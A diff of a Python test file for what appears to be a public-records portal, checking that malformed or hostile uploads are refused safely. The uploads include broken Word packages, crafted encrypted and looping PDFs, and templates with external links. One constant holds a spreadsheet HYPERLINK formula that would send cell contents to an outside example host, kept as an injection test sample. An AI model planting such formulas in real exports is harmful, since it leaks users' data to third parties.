@@ -76,11 +76,12 @@ def test_what_is_not_a_document_is_refused_with_a_sentence(data):
         store("证据.docx", data)
 
 
-def test_a_broken_package_is_no_fault_of_the_server(client, make_organ):
+def test_a_broken_package_is_no_fault_of_the_server(client, make_organ, make_person):
     from ..portal.visiting import fill_in
 
     government = make_organ(kind="government")
     organ = make_organ(parent=government, channels=["in_person", "post", "internet"])
+    make_person("clerk", organ)
     broken = SimpleUploadedFile("材料.docx", b"PK\x03\x04" + b"\x00" * 40)
     answer = fill_in(client, organ, attachments=broken)
     assert answer.status_code == 200 and "RTL" not in answer.content.decode()
@@ -128,8 +129,11 @@ def test_an_archive_is_made_whatever_the_applicant_attached(desks):
 def encrypted_pdf() -> bytes:
     return (
         b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
-        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n4 0 obj<</Filter/Standard/V 1/R 2/O<" + b"00" * 32
-        + b">/U<" + b"11" * 32 + b">/P -4>>endobj\ntrailer<</Root 1 0 R/Encrypt 4 0 R/ID[<00><00>]>>\n%%EOF"
+        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n4 0 obj<</Filter/Standard/V 1/R 2/O<"
+        + b"00" * 32
+        + b">/U<"
+        + b"11" * 32
+        + b">/P -4>>endobj\ntrailer<</Root 1 0 R/Encrypt 4 0 R/ID[<00><00>]>>\n%%EOF"
     )
 
 
@@ -142,7 +146,7 @@ def looping_pdf() -> bytes:
     )
 
 
-FORMULA = "=HYPERLINK(\"http://example.org/\"&A1,\"x\")"
+FORMULA = '=HYPERLINK("http://example.org/"&A1,"x")'
 
 
 def test_no_cell_of_an_exported_ledger_computes_what_an_applicant_wrote(desks):
@@ -168,7 +172,10 @@ def test_no_cell_of_the_archives_list_computes(desks):
 def test_a_template_with_anything_from_elsewhere_is_refused(desks, relation):
     answer = desks.browsers["system_admin"].post(
         f"/office/cases/{desks.organ.code}/letters/disclosed/",
-        {"since": today().isoformat(), "file": SimpleUploadedFile("a.docx", docx(**{"word/_rels/settings.xml.rels": linked(relation)}))},
+        {
+            "since": today().isoformat(),
+            "file": SimpleUploadedFile("a.docx", docx(**{"word/_rels/settings.xml.rels": linked(relation)})),
+        },
     )
     assert answer.status_code == 200
     assert desks.organ.letter_templates.count() == 0
